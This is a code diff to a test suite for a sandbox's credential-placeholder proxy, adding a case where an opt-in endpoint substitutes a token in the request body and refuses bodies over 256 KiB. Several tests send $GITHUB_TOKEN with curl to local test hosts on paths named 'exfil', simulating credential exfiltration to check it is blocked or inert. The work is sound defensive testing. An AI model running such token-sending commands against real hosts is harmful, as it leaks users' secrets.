@@ -43,6 +43,7 @@ network_policies:
     name: api
     endpoints:
       - { host: bound.cred.test, port: ${up.port}, protocol: rest, access: full, path: "/api/**", credential_binding: { provider: ${provider} }, allowed_ips: ${ip} }
+      - { host: bound.cred.test, port: ${up.port}, protocol: rest, access: full, path: "/body/**", credential_binding: { provider: ${provider} }, request_body_credential_rewrite: true, allowed_ips: ${ip} }
       - { host: bound.cred.test, port: ${up.port}, protocol: rest, access: full, allowed_ips: ${ip} }
       - { host: other.cred.test, port: ${up.port}, protocol: rest, access: full, allowed_ips: ${ip} }
       - { host: ${H}, port: ${plain.port} }
@@ -117,6 +118,16 @@ describe('placeholder credentials (issue 12)', () => {
     await expectLogged(name, /HTTP:POST/, /\/api\/exfil-3/)
   })
 
+  it('opt-in endpoint (request_body_credential_rewrite): the body is substituted; over 256 KiB it is refused (413), not forwarded', async () => {
+    const r = await curl(`-X POST --data "token=$GITHUB_TOKEN" ${url('bound.cred.test', '/body/ok')}`)
+    expect(r.stdout).toBe('upstream-ok\n200')
+    expect(up.requests.find(q => q.url === '/body/ok')!.body).toBe(`token=${VALUE}`)
+    const big = await sh(name, `head -c 300000 /dev/zero | tr '\\0' a > /tmp/big && curl -sS --max-time 10 -o /dev/null -w '%{http_code}' -X POST -H "Authorization: Bearer $GITHUB_TOKEN" --data-binary @/tmp/big ${url('bound.cred.test', '/body/big')}`)
+    expect(big.stdout).toBe('413')
+    expect(up.seen('/body/big')).toBe(0)
+    await expectLogged(name, /DENIED/, /\/body\/big/)
+  })
+
   it('attack #4: placeholder over plain HTTP → inert (the upstream sees the placeholder), logged', async () => {
     const r = await sh(name, `curl -sS --max-time 10 -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $GITHUB_TOKEN" http://${H}:${plain.port}/exfil-4`)
     expect(r.stdout).toBe('200')
@@ -162,7 +173,8 @@ describe('placeholder credentials (issue 12)', () => {
     expect(json.stdout).not.toContain(VALUE)
     const pj = await cli(['provider', 'get', provider, '-o', 'json'])
     expect(pj.stdout).not.toContain(VALUE)
-    expect(seenValue().every(q => q.url.startsWith('/api/'))).toBe(true)
+    // the value reached the upstream only on bound endpoints
+    expect(seenValue().every(q => q.url.startsWith('/api/') || q.url.startsWith('/body/'))).toBe(true)
   })
 
   it('--credential-mode env: the real value as an env var, with a one-line warning naming it', async () => {
